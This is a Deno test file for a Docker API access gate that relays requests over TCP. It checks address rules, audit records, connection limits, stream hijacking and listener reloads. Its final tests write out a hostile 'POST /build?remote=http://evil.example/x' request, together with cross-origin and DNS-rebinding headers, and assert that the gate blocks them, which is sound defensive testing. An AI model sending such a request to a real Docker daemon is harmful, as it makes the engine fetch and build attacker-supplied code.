import assert from "node:assert/strict";
import { parseRange } from "../../../lib/policy/address.ts";
import { missingIpv6 } from "../../support/ipv6.ts";
import { get, ok, post } from "../../support/wire.ts";
import { rule, TcpBench } from "./tcp_harness.ts";

const home = [parseRange("127.0.0.0/8")!];

Deno.test("a request over TCP is judged, relayed and recorded with its address", async () => {
  await using bench = await TcpBench.open();
  using client = await bench.client();
  await client.send(get("/v1.41/info"));
  using engine = await bench.engine();
  assert.match(await engine.until("\r\n\r\n"), /^GET \/v1.41\/info HTTP/);
  await engine.send(ok("{}"));
  assert.match(await client.message(), /^HTTP\/1.1 200 [^]*\{\}$/);
  const [record] = await bench.audit(1);
  assert.equal(record.peer.address, "127.0.0.1");
  assert.ok(record.peer.port > 0 && record.peer.port !== bench.port);
  assert.deepEqual([record.peer.uid, record.peer.pid, record.peer.cert], [null, null, null]);
});

Deno.test("a denial names the address", async () => {
  await using bench = await TcpBench.open();
  using client = await bench.client();
  await client.send(post("/containers/create", "{}"));
  assert.match(await client.message(), /403 [^]*containers.create denied for 127.0.0.1: policy/);
});

Deno.test("a rule about an address gives its policy, and one about another does not", async () => {
  await using bench = await TcpBench.open([
    rule({ addresses: [parseRange("172.18.0.0/16")!], policy: "full" }),
    rule({ addresses: home, policy: "deny" }),
  ]);
  using client = await bench.client();
  await client.send(get("/info"));
  assert.match(await client.message(), /403 [^]*policy deny/);
});

Deno.test({
  name: "a port of both families knows clients of IPv4 by their own addresses",
  ignore: missingIpv6 !== undefined,
  fn: async () => {
    await using bench = await TcpBench.open([rule({ addresses: home, policy: "deny" })], {
      address: Array(16).fill(0),
    });
    for (
      const [host, address, policy] of [
        ["127.0.0.1", "127.0.0.1", "deny"],
        ["::1", "::1", "read-only"],
      ] as const
    ) {
      using client = await bench.client(host);
      await client.send(post("/containers/create", "{}"));
      assert.match(await client.message(), /403 /);
      const record = (await bench.audit(1)).at(-1);
      assert.deepEqual([record.peer.address, record.policy], [address, policy]);
      await Deno.truncate(`${bench.directory}/audit.jsonl`);
    }
  },
});

Deno.test("a rule about a uid denies a client that has none, root's rule too", async () => {
  await using bench = await TcpBench.open([rule({ uids: [[0, 0]], policy: "full" })]);
  using client = await bench.client();
  await client.send(get("/info"));
  const answer = await client.message();
  assert.match(answer, /403 [^]*client rule postern.yaml:9 needs an identity that is unknown/);
});

Deno.test("rules that begin to ask for groups do not make the client of TCP somebody", async () => {
  await using bench = await TcpBench.open();
  using client = await bench.client();
  await client.send(post("/containers/create", "{}"));
  await client.message();
  await bench.apply([rule({ gids: [[0, 4294967294]], policy: "full" })]);
  await client.send(post("/containers/create", "{}"));
  assert.match(await client.message(), /403 [^]*needs an identity that is unknown/);
});

Deno.test("a hijacked stream passes both ways, with a half-close each way", async () => {
  await using bench = await TcpBench.open([rule({ addresses: home, policy: "full" })]);
  using client = await bench.client();
  const upgrade = "Connection: Upgrade\r\nUpgrade: tcp\r\n";
  await client.send(post("/containers/a/attach?stream=1&stdin=1&stdout=1", "", upgrade));
  using engine = await bench.engine();
  await engine.until("\r\n\r\n");
  await engine.send("HTTP/1.1 101 UPGRADED\r\nConnection: Upgrade\r\nUpgrade: tcp\r\n\r\n");
  await client.until("\r\n\r\n");
  await client.send("x".repeat(300_000));
  await client.closeWrite();
  assert.equal((await engine.rest()).length, 300_000);
  await engine.send("answer");
  await engine.closeWrite();
  assert.equal(await client.rest(), "answer");
});

Deno.test("an address has as many connections as max_connections_per_uid says", async () => {
  await using bench = await TcpBench.open([], { limits: { maxConnectionsPerUid: 1 } });
  using first = await bench.client();
  await first.send(get("/nothing"));
  await first.message();
  using second = await bench.client();
  await second.send(get("/info"));
  assert.match(await second.message(), /^HTTP\/1.1 429 [^]*address 127.0.0.1 has 1 connections/);
});

Deno.test("the second gate at an address is told who has it", async () => {
  await using bench = await TcpBench.open();
  const { Gate } = await import("../../../lib/relay/gate.ts");
  const [{ options }] = bench.gate.standing as [(typeof bench.gate.standing)[number]];
  await assert.rejects(
    Gate.open({
      listeners: [options],
      gate: { clients: [], listenerPolicies: {}, defaultPolicy: "deny", policies: {} },
      audit: { to: "off" },
      workers: 1,
    }, { log() {}, failed() {} }),
    /is in use: `ss -ltnp sport = :\d+` says by whom/,
  );
});

Deno.test("a listener that changes keeps its address, and its old connections end", async () => {
  await using bench = await TcpBench.open([], { workers: 2 });
  using client = await bench.client();
  await client.send(get("/nothing"));
  await client.message();
  const applied = await bench.apply([], [{ maxConnections: 5 }]);
  assert.deepEqual(applied.opened, ["test"]);
  assert.equal(await client.rest(), "");
  using next = await bench.client();
  await next.send(get("/nothing"));
  assert.match(await next.message(), /403/);
});

Deno.test("a listener that is gone takes nobody any more", async () => {
  await using bench = await TcpBench.open();
  await bench.apply([], []);
  await assert.rejects(bench.client(), Deno.errors.ConnectionRefused);
});

Deno.test("a gate that drains refuses newcomers and lets what runs finish", async () => {
  await using bench = await TcpBench.open([], { workers: 2 });
  using client = await bench.client();
  await client.send(get("/info"));
  using engine = await bench.engine();
  await engine.until("\r\n\r\n");
  let drained = false;
  const draining = bench.gate.drain().then(() => drained = true);
  let refused = false;
  for (let tries = 0; tries < 100 && !refused; tries++) {
    try {
      (await bench.client()).close();
      await new Promise((resolve) => setTimeout(resolve, 10));
    } catch (error) {
      // Who was on his way when the port was closed is reset.
      if (error instanceof Deno.errors.ConnectionReset) continue;
      assert.ok(error instanceof Deno.errors.ConnectionRefused, `${error}`);
      refused = true;
    }
  }
  assert.ok(refused);
  assert.ok(!drained);
  await engine.send(ok("{}"));
  assert.match(await client.message(), /200/);
  await draining;
});

for (
  const [what, head] of [
    ["a request across origins", "Host: 127.0.0.1:2375\r\nOrigin: https://evil.example"],
    ["a name that was pointed to this machine", "Host: evil.example:2375"],
    ["a form that needs no consent", "Host: localhost\r\nSec-Fetch-Site: cross-site"],
  ] as const
) {
  Deno.test(`a page in a browser gets nothing: ${what}`, async () => {
    await using bench = await TcpBench.open([rule({ addresses: home, policy: "full" })]);
    using client = await bench.client();
    // The engine would fetch and build it, and wants no body for that.
    const build = "POST /build?remote=http://evil.example/x HTTP/1.1\r\n";
    for (let n = 0; n < 2; n++) {
      await client.send(`${build}${head}\r\nContent-Length: 0\r\n\r\n`);
      assert.match(
        await client.message(),
        /^HTTP\/1.1 403 [^]*a page in a browser on this machine/,
      );
    }
    const [record] = await bench.audit(2);
    assert.deepEqual([record.decision, record.rule], ["deny", "foreign page"]);
  });
}
